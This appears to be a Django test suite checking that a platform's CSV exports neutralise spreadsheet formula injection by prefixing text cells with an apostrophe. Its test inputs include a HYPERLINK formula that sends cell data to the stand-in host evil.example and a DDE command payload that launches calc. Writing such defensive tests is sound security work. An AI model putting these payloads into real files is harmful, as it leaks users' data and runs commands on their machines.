"""CSV formula injection: every CSV the platform writes neutralises text cells a spreadsheet
would run (= + - @, tab, carriage return) with a leading apostrophe; numbers stay numbers."""

import csv
import io
import re
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from django.urls import reverse

from accounts import csvkit, rgpd
from tests.advisers.factories import live_consent
from tests.factories import MembershipFactory, OrganisationFactory
from tests.toolbox.factories import HostingOfferFactory, ToolFactory
from toolbox import opendata
from toolbox.models import Tool

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("https://evil.example/?d="&A2,"Cliquez")'


def _rows(response) -> list[dict]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.content.decode())))


def test_the_adviser_portfolio_csv_neutralises_an_organisation_named_like_a_formula(
    cast, client_for
):
    adviser = cast.users["adviser"]
    membership = MembershipFactory(admin=True, organisation=OrganisationFactory(name=LINK))
    live_consent(membership.organisation, adviser, by=membership.user)
    (row,) = _rows(client_for(adviser).get(reverse("advisers:portfolio_csv")))
    assert row["Organisation"] == "'" + LINK


def test_the_open_data_tools_csv_neutralises_text_cells_and_keeps_numbers(client):
    ToolFactory(
        name="@SUM(1+1)",
        slug="somme",
        summary="+cmd|' /C calc'!A0",
        description="-2+3",
        sobriety_notes="\tTab",
        replaces=["=Dropbox"],
        ease=3,
    )
    (row,) = _rows(client.get(reverse("toolbox:export_tools_csv")))
    assert row["name"] == "'@SUM(1+1)"
    assert row["summary"] == "'+cmd|' /C calc'!A0"
    assert row["description"] == "'-2+3"
    assert row["sobriety_notes"] == "'\tTab"
    assert row["replaces"] == "'=Dropbox"
    assert row["ease"] == "3"  # a number column: written as a number, untouched
    assert row["id"] == "somme" and row["usages"] == "stockage"


def test_the_open_data_offers_csv_neutralises_text_cells(client):
    HostingOfferFactory(name=LINK, price="-5 € par mois", support="@support")
    (row,) = _rows(client.get(reverse("toolbox:export_offers_csv")))
    assert row["name"] == "'" + LINK
    assert row["price"] == "'-5 € par mois"
    assert row["support"] == "'@support"
    assert row["provider_chatons"] in {"true", "false"}  # as documented (format 2.0.0)


def test_the_open_data_export_still_reimports_without_change():
    tool = ToolFactory(name="-Outil moins", summary="=Résumé", replaces=["+Produit"])
    report = opendata.run_import(opendata.tools_csv(), commit=True)
    assert report.errors == [] and report.updated == ["-Outil moins"]
    tool = Tool.objects.get(pk=tool.pk)
    assert (tool.name, tool.summary) == ("-Outil moins", "=Résumé")
    assert [p.name for p in tool.replaces.all()] == ["+Produit"]


def test_the_observatory_csv_neutralises_group_values(cast, client_for):
    from tests.advisers.test_observatory import _organisations

    _organisations(5, legal_form="=1+1")
    client = client_for(cast.users["cress_admin"])
    rows = _rows(client.get(reverse("advisers:observatory_csv"), {"by": "legal_form"}))
    (row,) = [r for r in rows if r["groupe"] != ""]
    assert row["groupe"] == "'=1+1" and row["libelle"] == "'=1+1"
    assert row["organisations"] == "5"


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (LINK, "'" + LINK),
        ("+cmd", "'+cmd"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("-2+3", "'-2+3"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Association des amis", "Association des amis"),
        ("1-2", "1-2"),
        ("a@example.org", "a@example.org"),
        ("", ""),
        (None, ""),
        (-1, "-1"),  # numbers stay numbers
        (-2.5, "-2.5"),
        (Decimal("-3.25"), "-3.25"),
        (date(2026, 1, 31), "2026-01-31"),
    ],
)
def test_the_shared_writer_neutralises_text_only(value, written):
    out = io.StringIO()
    csvkit.writer(out, lineterminator="\n").writerow([value])
    assert next(csv.reader(io.StringIO(out.getvalue())), [""]) == [written]
    if isinstance(value, str):
        assert csvkit.unescape(written) == value


def test_an_rgpd_export_neutralises_formulas_and_keeps_negative_numbers():
    assert rgpd.to_csv([{"a": "@SUM(1)", "b": -4}]).splitlines()[1] == "'@SUM(1),-4"


def test_no_csv_is_written_without_the_shared_helper():
    # A new export written with the standard module's writer would skip the neutralising.
    root = Path(__file__).resolve().parents[2]
    offenders = [
        str(path.relative_to(root))
        for app in ("accounts", "advisers", "ambassadors", "maturity", "toolbox", "config")
        for path in (root / app).rglob("*.py")
        if path.name != "csvkit.py"
        and re.search(r"\bcsv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8"))
    ]
    assert offenders == []


def test_the_open_data_page_tells_reusers_about_the_apostrophe(client):
    body = client.get(reverse("toolbox:opendata")).content.decode()
    assert "précédé d’une apostrophe" in body
